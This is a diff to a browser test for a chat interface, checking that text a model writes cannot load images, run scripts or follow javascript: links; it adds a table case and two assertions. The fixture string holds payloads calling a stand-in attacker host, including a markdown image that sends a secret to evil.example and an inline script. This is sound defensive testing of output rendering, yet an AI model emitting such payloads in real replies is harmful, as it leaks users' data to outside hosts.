@@ -105,6 +105,7 @@ test("what a model writes brings no picture, no markup and no address that says 
     "![stolen](https://evil.example/?secret=1)",
     "<img src='https://evil.example/2'><script>window.evil = 1</script>",
     "[a link](https://elsewhere.example/page) and [another](javascript:window.evil=2)",
+    "| one<br>two |\n| --- |",
     "Sentence 3",
   ].join("\n\n");
   await ask(page, "Be evil", text);
@@ -115,6 +116,8 @@ test("what a model writes brings no picture, no markup and no address that says 
   expect(await link.textContent()).toBe("a link (elsewhere.example)");
   expect(await reply(page).getByRole("link").count()).toBe(1);
   expect(await page.evaluate(() => "evil" in window)).toBe(false);
+  expect(await shown(page)).toContain("<script>window.evil = 1</script>");
+  expect(await reply(page).locator("th").innerText()).toBe("one\ntwo");
   expect(asked.filter((url) => url.includes("evil.example"))).toEqual([]);
 });
 
